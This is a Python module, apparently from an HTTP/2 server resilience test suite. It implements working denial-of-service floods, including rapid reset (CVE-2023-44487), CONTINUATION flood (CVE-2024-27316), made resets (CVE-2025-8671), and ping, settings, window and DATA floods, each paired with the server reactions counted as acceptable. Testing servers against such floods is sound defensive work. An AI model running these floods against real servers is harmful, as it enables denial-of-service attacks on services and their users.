"""Floods of HTTP/2 frames. An offender whose connection ends opens another one."""

from __future__ import annotations

import itertools
import struct
import time
from collections import Counter
from collections.abc import Callable

from suite import frames, messages
from suite.attack import Attack, Outcome
from suite.connection import Connection, connection_statuses, drive
from suite.target import Target

_MAX_CONNECTIONS = 500
_BATCH = 64
_OPEN_CALLS = 100
_SHORT = 1.5
_LARGEST_WINDOW = (1 << 31) - 1
# Between two connections, so that the attack is a flood of frames and not of connections.
_RECONNECT_PAUSE = 0.01
_GRACE = 1.0


def _flood(
    target: Target,
    until: float,
    flood: Callable[[Connection], int],
    *,
    reads: tuple[bool, ...] = (True,),
    begin: Callable[[Connection], None] = lambda _: None,
) -> tuple[int, Counter[str]]:
    """Floods one connection for each element of `reads`; returns the number of frames and the statuses."""
    count = 0
    statuses = Counter[str]()

    def connect(does_read: bool) -> Connection:
        connection = Connection(target, reads=does_read)
        begin(connection)
        return connection

    def add(connection: Connection) -> None:
        nonlocal count
        count += flood(connection)

    current = [connect(it) for it in reads]
    while time.monotonic() < until:
        drive(current, until, add, turn=lambda: not any(it.ended for it in current))
        for at, connection in enumerate(current):
            if connection.ended:
                statuses += connection_statuses([connection])
                time.sleep(_RECONNECT_PAUSE)
                current[at] = connect(reads[at])
        if statuses.total() >= _MAX_CONNECTIONS:
            break
    # A connection that is new is not yet one that the server tolerates.
    if statuses:
        drive(current, time.monotonic() + _GRACE, add, turn=lambda: not all(it.ended for it in current))
    return count, statuses + connection_statuses(current)


def _repeating(frame: bytes, times: int = _BATCH) -> Callable[[Connection], int]:
    """A flood of one frame."""
    batch = frame * times

    def flood(connection: Connection) -> int:
        connection.outbox += batch
        return times

    return flood


def rapid_reset(target: Target, until: float) -> Outcome:
    """Starts calls and resets each at once (CVE-2023-44487)."""
    block = frames.call_headers(messages.SOTW, target.scheme)

    def flood(connection: Connection) -> int:
        for _ in range(_BATCH):
            stream = connection.new_stream()
            connection.outbox += frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
            connection.outbox += frames.rst_stream(stream)
        return _BATCH

    count, statuses = _flood(target, until, flood, reads=(True,))
    return Outcome(f"{count:,} calls", statuses)


def continuation_flood(target: Target, until: float) -> Outcome:
    """Sends header blocks without an end, in large and in empty CONTINUATION frames (CVE-2024-27316)."""
    block = frames.call_headers(messages.SOTW, target.scheme)
    # A field without indexing, whose length of 16,000 bytes has a prefix of seven bits.
    large = b"\0" + frames.text("x-flow") + b"\x7f" + messages.varint(16_000 - 0x7F) + b"x" * 16_000

    def begin(connection: Connection) -> None:
        stream = connection.new_stream()
        connection.outbox += frames.frame(frames.HEADERS, 0, stream, block)

    def flooding(payload: bytes) -> Callable[[Connection], int]:
        return _repeating(frames.frame(frames.CONTINUATION, 0, 1, payload))

    middle = (time.monotonic() + until) / 2
    first, statuses = _flood(target, middle, flooding(large), reads=(True,), begin=begin)
    second, more = _flood(target, until, flooding(b""), reads=(True,), begin=begin)
    return Outcome(f"{first + second:,} frames", statuses + more)


def ping_flood(target: Target, until: float) -> Outcome:
    """Sends pings on one connection that reads the answers and one that does not."""
    ping = _repeating(frames.frame(frames.PING, 0, 0, b"attacker"))
    count, statuses = _flood(target, until, ping, reads=(True, False))
    return Outcome(f"{count:,} pings", statuses)


def settings_flood(target: Target, until: float) -> Outcome:
    """Changes the initial window again and again, with 100 streams open that each change concerns."""
    batch = b"".join(
        frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535 + turn % 2}) for turn in range(_BATCH)
    )

    def flood(connection: Connection) -> int:
        connection.outbox += batch
        return _BATCH

    count, statuses = _flood(target, until, flood, reads=(True, False), begin=_open_calls)
    return Outcome(f"{count:,} frames", statuses)


def ping_ack_flood(target: Target, until: float) -> Outcome:
    """Acknowledges pings that were never sent."""
    count, statuses = _flood(target, until, _repeating(frames.frame(frames.PING, frames.ACK, 0, b"attacker")))
    return Outcome(f"{count:,} frames", statuses)


def settings_ack_flood(target: Target, until: float) -> Outcome:
    """Acknowledges settings that were never sent."""
    count, statuses = _flood(target, until, _repeating(frames.frame(frames.SETTINGS, frames.ACK, 0)))
    return Outcome(f"{count:,} frames", statuses)


def _open_calls(connection: Connection) -> None:
    for _ in range(_OPEN_CALLS):
        connection.open()


def window_flood(target: Target, until: float) -> Outcome:
    """Enlarges the windows of a connection and of its 100 streams by one byte, again and again."""
    streams = (0, *range(1, 2 * _OPEN_CALLS, 2))
    batch = _repeating(b"".join(frames.window_update(stream, 1) for stream in streams), 1)
    count, statuses = _flood(target, until, batch, begin=_open_calls)
    return Outcome(f"{count * len(streams):,} frames", statuses)


def priority_flood(target: Target, until: float) -> Outcome:
    """Gives priorities to open streams and to ever new ones."""
    numbers = itertools.cycle(range(1, 1 << 31, 2))

    def flood(connection: Connection) -> int:
        for stream in itertools.islice(numbers, _BATCH):
            # The stream on which this one depends exclusively, and a weight.
            payload = struct.pack(">IB", 1 << 31 | stream - 1, 255)
            connection.outbox += frames.frame(frames.PRIORITY_FRAME, 0, stream, payload)
        return _BATCH

    count, statuses = _flood(target, until, flood, begin=_open_calls)
    return Outcome(f"{count:,} frames", statuses)


def idle_resets(target: Target, until: float) -> Outcome:
    """Resets streams that were never opened."""

    def flood(connection: Connection) -> int:
        for _ in range(_BATCH):
            connection.outbox += frames.rst_stream(connection.new_stream())
        return _BATCH

    count, statuses = _flood(target, until, flood)
    return Outcome(f"{count:,} frames", statuses)


def made_resets(target: Target, until: float) -> Outcome:
    """Starts calls, and makes the server reset each by a window update that is too large (CVE-2025-8671)."""
    block = frames.call_headers(messages.SOTW, target.scheme)

    def flood(connection: Connection) -> int:
        for _ in range(_BATCH):
            stream = connection.new_stream()
            connection.outbox += frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
            connection.outbox += frames.window_update(stream, _LARGEST_WINDOW)
        return _BATCH

    count, statuses = _flood(target, until, flood)
    return Outcome(f"{count:,} calls", statuses)


def data_flood(target: Target, until: float) -> Outcome:
    """Sends messages in DATA frames of one byte on 100 streams, and empty frames if there is no window."""
    streams = range(1, 2 * _OPEN_CALLS, 2)
    one_byte, empty = (
        b"".join(frames.frame(frames.DATA, 0, stream, it) for stream in streams) for it in (b"x", b"")
    )

    def begin(connection: Connection) -> None:
        for _ in range(_OPEN_CALLS):
            connection.send(connection.open(), messages.grpc_prefix(1 << 20))

    def flood(connection: Connection) -> int:
        has_room = connection.room(1) > _OPEN_CALLS
        connection.outbox += one_byte if has_room else empty
        if has_room:
            connection.spend(streams)
        return _OPEN_CALLS

    count, statuses = _flood(target, until, flood, begin=begin)
    return Outcome(f"{count:,} frames", statuses)


# A flood that the server answers at its own pace, without storing it, need not be ended.
_CLOSED = ("connection closed", "connection reset")
_BOUNDED = ("connection open", "GOAWAY ENHANCE_YOUR_CALM", *_CLOSED)

ATTACKS = (
    Attack("rapid-reset", "starts calls and resets each at once", rapid_reset, _BOUNDED),
    Attack(
        "continuation-flood",
        "sends header blocks that never end, in large and in empty frames",
        continuation_flood,
        # The server must not read an endless header block.
        ("GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR", "GOAWAY COMPRESSION_ERROR")
        + ("connection closed", "connection reset"),
    ),
    Attack("ping-flood", "sends pings, and reads the answers or does not", ping_flood, _BOUNDED),
    Attack(
        "settings-flood",
        "changes the initial window of 100 open streams again and again",
        settings_flood,
        _BOUNDED,
    ),
    Attack(
        "ping-ack-flood",
        "acknowledges pings that were never sent",
        ping_ack_flood,
        # The HTTP/2 stack logs each of them, so the server must end the connection.
        ("GOAWAY ENHANCE_YOUR_CALM", *_CLOSED),
        seconds=_SHORT,
    ),
    Attack(
        "settings-ack-flood",
        "acknowledges settings that were never sent",
        settings_ack_flood,
        ("GOAWAY PROTOCOL_ERROR", "GOAWAY ENHANCE_YOUR_CALM", *_CLOSED),
        seconds=_SHORT,
    ),
    Attack(
        "window-flood",
        "enlarges the windows of a connection and of 100 open streams by one byte, again and again",
        window_flood,
        _BOUNDED,
        seconds=_SHORT,
    ),
    Attack(
        "priority-flood",
        "gives priorities to ever new streams",
        priority_flood,
        _BOUNDED,
        seconds=_SHORT,
    ),
    Attack(
        "idle-resets",
        "resets streams that were never opened",
        idle_resets,
        ("GOAWAY PROTOCOL_ERROR", "GOAWAY ENHANCE_YOUR_CALM", *_CLOSED),
        seconds=_SHORT,
    ),
    Attack(
        "made-resets",
        "starts calls and makes the server reset each by a window update that is too large",
        made_resets,
        ("GOAWAY ENHANCE_YOUR_CALM", *_CLOSED),
        seconds=_SHORT,
    ),
    Attack(
        "data-flood",
        "sends messages on 100 streams in DATA frames of one byte, and empty frames between them",
        data_flood,
        _BOUNDED,
        seconds=_SHORT,
    ),
)
